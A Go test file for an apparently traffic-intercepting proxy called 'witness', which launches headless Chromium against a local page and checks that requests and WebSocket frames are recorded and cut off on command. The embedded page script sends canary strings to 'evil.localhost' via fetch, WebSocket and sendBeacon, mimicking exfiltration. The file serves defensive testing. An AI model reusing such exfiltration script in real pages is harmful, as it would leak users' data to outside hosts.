package witness

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/coder/websocket"
)

const testPage = `<!doctype html><title>shop</title><script>
const socket = new WebSocket("wss://chat.localhost:PORT/socket");
socket.onopen = () => { for (let i = 0; i < 3; i++) socket.send("canary in a socket, again and again, " + i) };
socket.onmessage = event => {
	if (event.data.endsWith("2")) fetch("https://evil.localhost:PORT/collect", {method: "POST", mode: "no-cors", body: "canary in a request"})
		.then(() => fetch("/before"));
	if (event.data != "the line is cut") return;
	socket.send("canary too late");
	fetch("https://evil.localhost:PORT/json", {method: "PUT", headers: {"Content-Type": "application/json"}, body: '"canary in JSON"'});
	const late = new WebSocket("wss://evil.localhost:PORT/late");
	late.onopen = () => late.send("canary in a late socket");
	navigator.sendBeacon("/beacon", "canary in a beacon");
};
</script>`

func TestChromium(t *testing.T) {
	t.Parallel()
	var (
		before = make(chan struct{})
		isCut  = make(chan struct{})
		late   = make(chan string, 10)
		port   string
	)
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-isCut:
			late <- r.URL.Path
		default:
		}
		switch r.URL.Path {
		case "/":
			io.WriteString(w, strings.ReplaceAll(testPage, "PORT", port))
		case "/before":
			close(before)
		case "/socket":
			c, err := websocket.Accept(w, r, &websocket.AcceptOptions{
				InsecureSkipVerify: true, CompressionMode: websocket.CompressionContextTakeover, CompressionThreshold: 1,
			})
			if err != nil {
				t.Error(err)
				return
			}
			defer c.CloseNow()
			for range 3 {
				kind, message, err := c.Read(context.Background())
				if err != nil {
					t.Error(err)
					return
				}
				c.Write(context.Background(), kind, message)
			}
			<-isCut
			c.Write(context.Background(), websocket.MessageText, []byte("the line is cut"))
			if _, message, err := c.Read(context.Background()); err == nil {
				late <- string(message)
			}
		}
	}))
	server.TLS = &tls.Config{GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) {
		c := certificate(t, hello.ServerName, -time.Hour, time.Hour)
		return &c, nil
	}}
	server.EnableHTTP2 = true
	server.StartTLS()
	defer server.Close()
	defer server.CloseClientConnections()
	_, port, _ = net.SplitHostPort(server.Listener.Addr().String())

	p, _ := launch(t, Options{Intercept: true, Roots: []*x509.Certificate{testAuthority(t).certificate}})
	output := browse(t, p, "https://shop.localhost:"+port+"/")
	select {
	case <-before:
	case <-time.After(2 * time.Minute):
		t.Fatalf("the page did not load; Chromium says:\n%s\nthe witness saw %v", output(), p.Exchanges())
	}
	p.Cut()
	close(isCut)

	exchanges := map[string]bool{ // URL path and body, and whether it was cut
		"shop.localhost/ ": false, "evil.localhost/collect canary in a request": false, "chat.localhost/socket ": false,
		`evil.localhost/json "canary in JSON"`: true, "evil.localhost/late ": true, "shop.localhost/beacon canary in a beacon": true,
	}
	frames := map[string]bool{
		"canary in a socket, again and again, 0": false, "canary in a socket, again and again, 2": false,
		"canary too late": true, "canary in a late socket": true,
	}
	until(t, "all that the page sent", func() bool {
		seen := 0
		for _, x := range p.Exchanges() {
			_, where, _ := strings.Cut(x.URL, "://")
			where = strings.Replace(where, ":"+port, "", 1)
			if cut, ok := exchanges[where+" "+string(x.Body.Bytes())]; ok && cut == x.Cut {
				seen++
			}
		}
		for _, m := range p.Frames() {
			if cut, ok := frames[string(m.Payload.Bytes())]; ok && m.Sent && cut == m.Cut {
				seen++
			}
		}
		return seen >= len(exchanges)+len(frames)
	})
	for _, x := range p.Exchanges() {
		if x.Failure == BrowserTLS {
			t.Errorf("%v: %s", x, x.Error)
		}
	}
	select {
	case what := <-late:
		t.Errorf("%q reached the server after the cut", what)
	default:
	}
}

// browse opens url in a Chromium of its own, as an unprivileged user so that its sandbox is on.
func browse(t *testing.T, p *Proxy, url string) (output func() string) {
	t.Helper()
	var executable string
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if path, err := exec.LookPath(name); err == nil {
			executable = path
			break
		}
	}
	if executable == "" {
		t.Fatal("no Chromium on this machine: apt-get install chromium")
	}
	home, err := os.MkdirTemp("", "witness-chromium-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	command := exec.Command(executable,
		"--headless", "--user-data-dir="+home, "--remote-debugging-port=0", "--no-first-run", "--disable-gpu", "--disable-dev-shm-usage",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--proxy-server=http://"+p.Addr(), "--proxy-bypass-list=<-loopback>", "--ignore-certificate-errors-spki-list="+p.SPKI(), url)
	command.Env = append(os.Environ(), "HOME="+home)
	command.Dir = home
	command.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if os.Getuid() == 0 {
		const nobody = 65534
		if err := os.Chown(home, nobody, nobody); err != nil {
			t.Fatal(err)
		}
		command.SysProcAttr.Credential = &syscall.Credential{Uid: nobody, Gid: nobody}
	}
	var out bytes.Buffer
	command.Stdout, command.Stderr = &out, &out
	command.WaitDelay = 10 * time.Second
	if err := command.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() {
		command.Wait()
		close(ended)
	}()
	stop := func() {
		syscall.Kill(-command.Process.Pid, syscall.SIGKILL)
		<-ended
	}
	t.Cleanup(stop)
	return func() string {
		stop()
		return out.String()
	}
}
